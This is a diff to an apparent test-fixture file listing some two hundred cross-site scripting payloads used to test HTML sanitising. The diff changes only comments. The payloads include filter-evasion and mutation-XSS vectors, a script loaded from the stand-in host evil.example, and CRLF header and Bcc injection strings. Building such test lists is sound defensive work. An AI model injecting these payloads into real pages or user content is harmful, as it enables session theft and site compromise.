@@ -1,12 +1,12 @@
-"""Two hundred ways to run a script in a reader's browser, each of which calls `alert`.
+"""Two hundred ways to run a script in a reader's browser; each calls `alert`.
 
-Collected by what they try, after the families of the OWASP cheat sheet on filter evasion and of the
-literature on mutation. What needs a click, a frame or another context is found in the page by
-tests/browser/test_scripts.py; LIVE are those that run at once in a page that takes them as HTML.
+They follow the families of the OWASP cheat sheet on filter evasion and of the literature on
+mutation XSS. tests/browser/test_scripts.py finds those that need a click, a frame or another
+context in the page; LIVE are those that run at once in a page that treats them as HTML.
 """
 
 LIVE = [
-    # Elements that hold or fetch a script
+    # Elements that contain or load a script
     "<script>alert(1)</script>",
     "<SCRIPT>alert(1)</SCRIPT>",
     "<script >alert(1)</script >",
@@ -30,7 +30,7 @@ LIVE = [
     "<svg><script>alert(1)</script></svg>",
     "<svg><script>alert&#40;1&#41;</script></svg>",
     "<svg><script href=data:,alert(1) /></svg>",
-    # Handlers that a browser calls by itself
+    # Event handlers that fire by themselves
     "<img src=x onerror=alert(1)>",
     "<IMG SRC=x OnErRoR=alert(1)>",
     "<img src=x onerror='alert(1)'>",
@@ -102,7 +102,7 @@ LIVE = [
 
 SLEEPING = [
     "<object data=x: onerror=alert(1)></object>",
-    # Handlers that wait for somebody to do something
+    # Event handlers that need an action of the user
     "<a onclick=alert(1)>click</a>",
     "<a href=# onmouseover=alert(1)>over</a>",
     "<b onpointerenter=alert(1)>over</b>",
@@ -118,14 +118,14 @@ SLEEPING = [
     "<input onpaste=alert(1) value=paste>",
     "<input type=hidden accesskey=x onclick=alert(1)>",
     "<b popover id=p onbeforetoggle=alert(1)></b><button popovertarget=p>o",
-    # Attributes that scripts of a page may read: htmx and others
+    # Attributes evaluated by scripts of a page, such as htmx
     "<b data-hx-on:click=alert(1)>x</b>",
     "<b hx-on--load='alert(1)' hx-get=/ hx-trigger=load>x</b>",
     "<b data-hx-get=/ data-hx-trigger=load data-hx-vals='js:x:alert(1)'>",
     "<b hx-trigger='load[alert(1)]' hx-get=/>x</b>",
     "<b _='init call alert(1)' x-init='alert(1)' @click='alert(1)'>x</b>",
     "<div ng-app>{{constructor.constructor('alert(1)')()}}</div>",
-    # Addresses in elements
+    # URLs in elements
     "<a href=javascript:alert(1)>x</a>",
     "<a href='JaVaScRiPt:alert(1)'>x</a>",
     "<a href=' javascript:alert(1)'>x</a>",
@@ -155,7 +155,7 @@ SLEEPING = [
     "<meta http-equiv=Content-Security-Policy content='script-src *'>",
     "<link rel=import href=data:text/html,alert(1)>",
     "<script src=//evil.example/alert(1)></script>",
-    # Links of Markdown
+    # Markdown links
     "[x](javascript:alert(1))",
     "[x](JaVaScRiPt:alert(1))",
     "[x]( javascript:alert(1))",
@@ -187,7 +187,7 @@ SLEEPING = [
     "\\<img src=x onerror=alert(1)\\>",
     "<!--\n--><img src=x onerror=alert(1)>",
     '@member"><img src=x onerror=alert(1)>',
-    # Out of attributes, scripts, titles and other places
+    # Breaking out of attributes, scripts, titles and other contexts
     '"><img src=x onerror=alert(1)>',
     "'><img src=x onerror=alert(1)>",
     '" autofocus onfocus=alert(1) x="',
@@ -208,7 +208,7 @@ SLEEPING = [
     "</option></select><img src=x onerror=alert(1)>",
     "--><img src=x onerror=alert(1)><!--",
     "]]><img src=x onerror=alert(1)>",
-    # Characters that become others
+    # Characters that are normalized to others
     "\uff1cimg src=x onerror=alert(1)\uff1e",
     "<\u0130mg src=x onerror=alert(1)>",
     "<\u017fcript>alert(1)</\u017fcript>",
@@ -217,7 +217,7 @@ SLEEPING = [
     "\\u003cimg src=x onerror=alert(1)\\u003e",
     "+ADw-img src=x onerror=alert(1)+AD4-",
     "\u202e<img src=x onerror=alert(1)>",
-    # What serialising turns into something else
+    # Mutation by serialization
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
     "<math><mtext><table><mglyph><style><img title='--><img src=x onerror=alert(1)>'>",
     "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
@@ -229,7 +229,7 @@ SLEEPING = [
     "{{ '<script>alert(1)</script>'|safe }}",
     "{% autoescape off %}<script>alert(1)</script>{% endautoescape %}",
     "${alert(1)}<%= alert(1) %>{actor.__class__}%(name)s",
-    # Lines of headers
+    # Header injection
     "x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
     "x\nBcc: victim@example.org\n\n<script>alert(1)</script>",
 ]
